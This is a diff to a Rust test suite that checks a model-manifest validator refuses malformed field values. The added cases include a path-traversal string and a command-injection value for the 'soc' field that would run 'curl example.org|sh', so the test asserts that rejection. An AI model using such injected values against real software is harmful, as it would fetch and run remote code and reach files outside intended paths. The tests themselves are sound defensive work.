@@ -281,6 +281,9 @@ fn contradictions_are_refused_by_field_on_writing_and_reading() {
         ("model.name", |m| m.model.name = "a\u{1b}[2Jb".to_owned()),
         ("model.family", |m| m.model.family = "a\nb".to_owned()),
         ("variants[0].soc", |m| m.variants[0].soc.clear()),
+        ("variants[0].soc", |m| m.variants[0].soc = "/../../victim".to_owned()),
+        ("variants[0].soc", |m| m.variants[0].soc = "x`; curl example.org|sh #".to_owned()),
+        ("variants[0].soc", |m| m.variants[0].soc = "SM8750".to_owned()),
         ("variants[0].planner.name", |m| m.variants[0].planner.name.clear()),
         ("variants[0].planner.version", |m| m.variants[0].planner.version.clear()),
         ("variants[0].options", |m| drop(m.variants[0].options.insert(String::new(), String::new()))),
@@ -886,7 +889,7 @@ prop_compose! {
             texts.insert(TextFile::Tokenizer, index);
         }
         for (index, variant) in variants.iter_mut().enumerate() {
-            variant.soc = format!("{} {index}", variant.soc);
+            variant.soc = format!("chip-{index}");
         }
         Manifest {
             program,
